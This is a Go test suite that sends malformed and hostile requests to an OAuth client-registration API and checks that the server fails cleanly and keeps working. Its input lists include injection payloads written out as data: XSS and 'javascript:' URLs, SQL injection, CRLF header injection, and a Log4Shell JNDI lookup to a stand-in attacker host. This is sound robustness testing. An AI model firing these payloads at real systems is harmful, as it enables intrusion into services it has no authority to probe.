package suites

import (
	"encoding/json"
	"net/http"
	"net/url"
	"slices"
	"strings"

	"github.com/onsi/gomega"

	"docspace-oauth/flows"
	"docspace-oauth/signature"
	"docspace-oauth/suites/target"
)

// wrongTypes are JSON values of which most are of the wrong type wherever they stand.
var wrongTypes = []string{
	"null", "true", "0", "-1", "1e400", `""`, `" "`, `"a"`, "[]", "[null]", "[[]]", `[1,"a",{}]`, "{}", `{"a":1}`,
	`"\u0000"`, `"\ud800"`, `"a\r\n` + injected + `: 1"`, `"<script>alert(1)</script>"`, `"' OR '1'='1"`, `"${jndi:ldap://attacker.example.test}"`,
	`"javascript:alert(1)"`, `["javascript:alert(1)"]`, `["https://a.example.test/\r\n` + injected + `: 1"]`, `["https://[::1"]`,
}

// malformed are bodies that are no JSON object.
var malformed = []string{
	"", " ", "{", "}", "{]", `{"name"`, `{"name":}`, `{"name":"a",}`, "nul", "'a'", "a=b", "\xff\xfe{}", "{\x00}", "\xef\xbb\xbf{}",
	`{"name":"` + "\xff" + `"}`, "NaN", "[]", "1", `"text"`, "<xml/>", strings.Repeat("[", 10_000), strings.Repeat(`{"a":`, 10_000),
	`{"name":"` + strings.Repeat("n", 1<<20) + `"}`, `{"name":1` + strings.Repeat("0", 10_000) + "}", `{"name":"a"}{"name":"b"}`,
}

// hostileRegistrations are hostile requests to the registration API, as a user who
// may register apps.
func (c *Case) hostileRegistrations() []hostile {
	owner, err := c.Target.Registrar(c.ctx)
	c.need(err)
	app := c.App()
	signed := http.Header{signature.Name: {c.Signature(owner)}, "Content-Type": {"application/json"}}
	var all []hostile
	add := func(method, path, what, body string) {
		all = append(all, hostile{what: path + ", " + what, method: method, path: path, header: signed.Clone(), body: body})
	}
	const clients = "/api/2.0/clients"
	own := clients + "/" + app.ID
	writes := []struct{ method, path string }{{"POST", clients}, {"PUT", own}, {"PATCH", own + "/activation"}}
	for _, body := range malformed {
		for _, w := range writes {
			add(w.method, w.path, "body "+cut(body), body)
		}
	}
	for _, name := range registrationMembers {
		for _, value := range append(slices.Clone(wrongTypes), `"`+strings.Repeat("l", 300)+`"`, `"`+strings.Repeat("l", 70_000)+`"`,
			`["https://app.example.test/`+strings.Repeat("l", 300)+`"]`) {
			add("POST", clients, name+": "+cut(value), c.registrationWith(name, value))
			if slices.Contains([]string{"name", "description", "logo", "allow_pkce", "allowed_origins"}, name) {
				add("PUT", own, name+": "+cut(value), c.registrationWith(name, value))
			}
		}
	}
	for _, value := range wrongTypes {
		add("PATCH", own+"/activation", "status: "+value, `{"status":`+value+`}`)
	}
	for _, what := range sortedKeys(hostileValues) {
		value := hostileValues[what]
		for _, query := range []string{"limit=" + value, "limit=10&last_client_id=" + value, "limit=10&last_created_on=" + value} {
			add("GET", clients+"?"+query, what, "")
		}
		add("GET", clients+"/info?limit="+value, what, "")
		add("GET", clients+"/consents?limit=10&last_modified_on="+value, what, "")
		if _, err := url.PathUnescape(value); err == nil {
			add("GET", clients+"/"+value+"/public/info", what, "")
		}
	}
	for _, media := range hostileTypes {
		all = append(all, hostile{
			what: clients + ", content type " + media, method: "POST", path: clients, body: c.registrationWith("name", `"A name"`),
			header: http.Header{signature.Name: {c.Signature(owner)}, "Content-Type": {media}},
		})
	}
	return all
}

// registrationMembers are the members of a registration (docs/portal/identity.md §7.3).
var registrationMembers = []string{
	"name", "description", "logo", "allow_pkce", "is_public", "website_url", "terms_url", "policy_url", "logout_redirect_uri",
	"redirect_uris", "allowed_origins", "scopes",
}

// registrationWith is a registration that is right but for one member.
func (c *Case) registrationWith(name, value string) string {
	text, err := json.Marshal(flows.NewRegistration("Hostile", RedirectURI, probeScope))
	c.need(err)
	members := map[string]json.RawMessage{}
	c.need(json.Unmarshal(text, &members))
	delete(members, name)
	rest, err := json.Marshal(members)
	c.need(err)
	// By hand: the value need not be valid JSON.
	return `{"` + name + `":` + value + "," + strings.TrimPrefix(string(rest), "{")
}

func cut(text string) string {
	if len(text) > 40 {
		return text[:40] + "…"
	}
	return text
}

// attackRegistration sends the hostile requests and deletes what they registered.
func (c *Case) attackRegistration(wrong func(answer Response) string) {
	if len(c.Target.Apps) > 0 {
		c.need(errSpared)
	}
	var requests []hostile
	c.setup("hostile requests", func() { requests = c.hostileRegistrations() })
	owner, err := c.Target.Registrar(c.ctx)
	c.need(err)
	c.attack(requests, func(answer Response) string {
		if id := answer.Text("client_id"); id != "" && c.Target.Kind == target.KindURL {
			c.Cleanup(func() { c.deleteApp(App{App: flows.App{ID: id}, Owner: owner}) })
		}
		return wrong(answer)
	})
	c.Expect(c.App().ID).NotTo(gomega.BeEmpty(), "registration works after %d hostile requests", len(requests))
}

func hostileRegistration(c *Case) {
	c.attackRegistration(func(answer Response) string {
		if answer.Status >= 500 {
			return answer.String()
		}
		return ""
	})
}

func registrationSurvives(c *Case) {
	c.attackRegistration(func(answer Response) string {
		if answer.Status >= 500 && (answer.MediaType() != "application/problem+json" || answer.Member("status") != float64(answer.Status)) {
			return "no problem document: " + answer.String()
		}
		return harm(answer)
	})
}
